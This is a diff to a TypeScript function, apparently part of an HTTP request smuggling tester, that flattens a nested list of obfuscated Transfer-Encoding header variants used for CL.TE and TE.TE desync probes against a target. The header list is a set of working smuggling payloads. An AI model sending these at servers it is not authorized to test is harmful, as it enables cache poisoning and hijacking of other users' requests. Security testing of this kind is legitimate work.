@@ -35,34 +35,24 @@ export function attacks(target: string): readonly string[] {
     get(`Content-Length: 4\r\nTransfer-Encoding: chunked\r\n`, chunked),
     // TE.TE: a coding that one parser does not recognise.
     ...[
-      ...[
-        'Transfer-Encoding: chunked',
-        'Transfer-Encoding: xchunked',
-        'Transfer-Encoding : chunked',
-        'Transfer-Encoding:\tchunked',
-      ],
-      ...[
-        'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
-        'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
-      ],
-      ...[
-        'Transfer-Encoding: chunked, identity',
-        'Transfer-Encoding: "chunked"',
-        'Transfer-Encoding: CHUNKED',
-        'transfer-encoding:chunked',
-      ],
-      ...[
-        'Transfer-Encoding\r\n : chunked',
-        'X: y\r\n Transfer-Encoding: chunked',
-        ' Transfer-Encoding: chunked',
-        'Transfer-Encoding: \x0bchunked',
-      ],
-      ...[
-        'Transfer-Encoding: chunked\r',
-        'Transfer_Encoding: chunked',
-        'Transfer-Encoding: chun\0ked',
-        'Transfer-Encoding: chunk',
-      ],
+      'Transfer-Encoding: chunked',
+      'Transfer-Encoding: xchunked',
+      'Transfer-Encoding : chunked',
+      'Transfer-Encoding:\tchunked',
+      'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
+      'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
+      'Transfer-Encoding: chunked, identity',
+      'Transfer-Encoding: "chunked"',
+      'Transfer-Encoding: CHUNKED',
+      'transfer-encoding:chunked',
+      'Transfer-Encoding\r\n : chunked',
+      'X: y\r\n Transfer-Encoding: chunked',
+      ' Transfer-Encoding: chunked',
+      'Transfer-Encoding: \x0bchunked',
+      'Transfer-Encoding: chunked\r',
+      'Transfer_Encoding: chunked',
+      'Transfer-Encoding: chun\0ked',
+      'Transfer-Encoding: chunk',
     ].map((field) => get(`${field}\r\n`, chunked)),
     // Bodies in chunks with doubtful sizes.
     ...[
